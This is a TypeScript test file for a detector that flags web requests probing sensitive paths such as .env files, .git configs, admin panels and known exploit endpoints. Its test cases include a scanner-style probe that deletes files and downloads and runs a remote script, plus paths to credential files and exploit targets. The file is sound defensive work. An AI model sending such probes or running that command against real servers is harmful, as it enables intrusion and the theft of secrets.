import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  createSensitivePathMatcher,
  matchSensitivePath,
  SENSITIVE_PATHS,
} from '../../../src/detect/patterns/sensitive-paths.js';
import { fuzzStrings, PATHOLOGICAL } from './fuzz.js';

const exactEntries = SENSITIVE_PATHS.filter((e) => !e.path.endsWith('/'));
const folderEntries = SENSITIVE_PATHS.filter((e) => e.path.endsWith('/'));

describe('SENSITIVE_PATHS', () => {
  it('has a reason for every entry and no duplicates', () => {
    for (const e of SENSITIVE_PATHS) {
      expect(e.path.startsWith('/'), e.path).toBe(true);
      expect(e.reason.length, e.path).toBeGreaterThan(5);
    }
    const lower = SENSITIVE_PATHS.map((e) => e.path.toLowerCase());
    expect(new Set(lower).size).toBe(lower.length);
  });

  it('covers every group', () => {
    expect(new Set(SENSITIVE_PATHS.map((e) => e.group))).toEqual(
      new Set(['secret', 'admin', 'info', 'exploit']),
    );
  });
});

describe('matchSensitivePath', () => {
  it.each(SENSITIVE_PATHS.map((e) => [e.path, e] as const))('%s matches itself', (path, e) => {
    expect(matchSensitivePath(path)).toBe(e);
    expect(matchSensitivePath(path.toUpperCase())).toBe(e);
    expect(matchSensitivePath(`${path}?x=1&y=/etc`)).toBe(e);
  });

  it.each(exactEntries.map((e) => [e.path, e] as const))(
    '%s matches what is under it, not longer names',
    (path, e) => {
      expect(matchSensitivePath(`${path}/index.php`)).toBe(e);
      expect(matchSensitivePath(`${path}x`)).not.toBe(e);
    },
  );

  it.each(folderEntries.map((e) => [e.path, e] as const))(
    '%s matches everything under it and itself',
    (path, e) => {
      expect(matchSensitivePath(`${path}anything/deeper`)).toBe(e);
      expect(matchSensitivePath(path.slice(0, -1))).toBe(e);
    },
  );

  it.each([
    ['/.env', '/.env'],
    ['/.ENV', '/.env'],
    ['/.env?foo=bar', '/.env'],
    ['/.git/config', '/.git/config'],
    ['/.git/objects/info/packs', '/.git/'],
    ['/.git/index', '/.git/'],
    ['/phpMyAdmin/index.php', '/phpmyadmin'],
    ['/wp-admin/admin-ajax.php', '/wp-admin'],
    ['/administrator', '/administrator/'],
    ['/administrator/index.php', '/administrator/'],
    ['/cgi-bin/luci/;stok=/locale', '/cgi-bin/'],
    ['/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/x;sh+x', '/shell'],
    ['/Autodiscover/Autodiscover.xml', '/autodiscover/autodiscover.xml'],
    ['/+CSCOE+/logon.html?fcadbadd=1', '/+CSCOE+/logon.html'],
    ['/%2eenv', '/.env'],
    ['/%252eenv', '/.env'],
    ['/nice%20ports%2C/Tri%6Eity.txt%2ebak', '/nice ports,/Trinity.txt.bak'],
    ['//wp-login.php', '/wp-login.php'],
    ['/wp-admin//install.php', '/wp-admin'],
    ['/api//jsonws/invoke', '/api/jsonws/invoke'],
    ['/API/jsonws/invoke?p=1', '/api/jsonws/invoke'],
    ['http://example.com/.env', '/.env'],
    ['https://example.com/wp-login.php?x', '/wp-login.php'],
    // Hidden files and vendor/ under any prefix.
    ['/api/.env', '/.env'],
    ['/laravel/.env.production', '/.env.production'],
    ['/static/js/.git/HEAD', '/.git/HEAD'],
    ['/app/.DS_Store', '/.DS_Store'],
    [
      '/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    ],
    ['/.well-known/../.env', '/.well-known/../'],
    ['/vpn/../vpns/portal/scripts/newbm.pl', '/vpn/../vpns/'],
  ])('%s → %s', (target, expected) => {
    expect(matchSensitivePath(target)?.path).toBe(expected);
  });

  it.each([
    '/',
    '/jobs',
    '/jobs/1234?ref=newsletter',
    '/environment',
    '/.envelope',
    '/api/.env.example',
    '/envoy/.environment',
    '/.well-known/acme-challenge/abc123',
    '/.well-known/security.txt',
    '/static/.gitkeep',
    '/pmax',
    '/shells/zsh',
    '/consoles',
    '/jenkinsfile-guide',
    '/wp-content/uploads/2024/01/photo.jpg',
    '/actuator/health',
    '/actuator/info',
    '/vendor/jquery/jquery.min.js',
    '/assets/vendor/bootstrap.css',
    '/search?q=/.env',
    '/jobs?next=/wp-login.php',
    '/blog/how-to-secure-your-.env-file',
    '*',
    '-',
    '',
    'example.com:443',
  ])('%s is not sensitive', (target) => {
    expect(matchSensitivePath(target)).toBeUndefined();
  });

  it('finds exactly the two scanners probing for WordPress and Joomla in a real access log', () => {
    const paths = readFileSync('tests/fixtures/real/elastic_apache_1k.log', 'utf8')
      .split('\n')
      .map((line) => line.split('"')[1]?.split(' ')[1])
      .filter((path): path is string => path !== undefined);
    expect(paths.filter((path) => matchSensitivePath(path) !== undefined)).toEqual([
      '/wp-login.php',
      '/administrator/index.php',
      '/wp-login.php',
      '/administrator/',
    ]);
  });

  it('never throws on random and pathological input', () => {
    for (const s of [...fuzzStrings(10_000, 31), ...PATHOLOGICAL]) {
      const match = matchSensitivePath(s);
      if (match !== undefined) expect(SENSITIVE_PATHS).toContain(match);
    }
  });
});

describe('createSensitivePathMatcher', () => {
  it('adds extra paths, as secrets unless given as entries', () => {
    const match = createSensitivePathMatcher([
      '/internal/',
      'backup-2024.tar',
      { path: '/ops', group: 'admin', reason: 'operations dashboard' },
    ]);
    expect(match('/internal/metrics')).toMatchObject({ path: '/internal/', group: 'secret' });
    expect(match('/backup-2024.tar')).toMatchObject({ path: '/backup-2024.tar', group: 'secret' });
    expect(match('/OPS/users')).toMatchObject({
      path: '/ops',
      group: 'admin',
      reason: 'operations dashboard',
    });
    expect(match('/.env')?.path).toBe('/.env');
    expect(match('/internals')).toBeUndefined();
  });

  it('lets a WordPress site allow its own login and admin', () => {
    const match = createSensitivePathMatcher([], ['/wp-login.php', '/wp-admin/']);
    expect(match('/wp-login.php?action=lostpassword')).toBeUndefined();
    expect(match('/WP-ADMIN/post.php?post=12')).toBeUndefined();
    expect(match('/wp-admin')).toBeUndefined();
    expect(match('/xmlrpc.php')?.path).toBe('/xmlrpc.php');
    expect(match('/wp-config.php')?.path).toBe('/wp-config.php');
  });

  it('allows a single path under a listed folder', () => {
    const match = createSensitivePathMatcher([], ['/cgi-bin/status.cgi']);
    expect(match('/cgi-bin/status.cgi')).toBeUndefined();
    expect(match('/cgi-bin/luci')?.path).toBe('/cgi-bin/');
  });
});
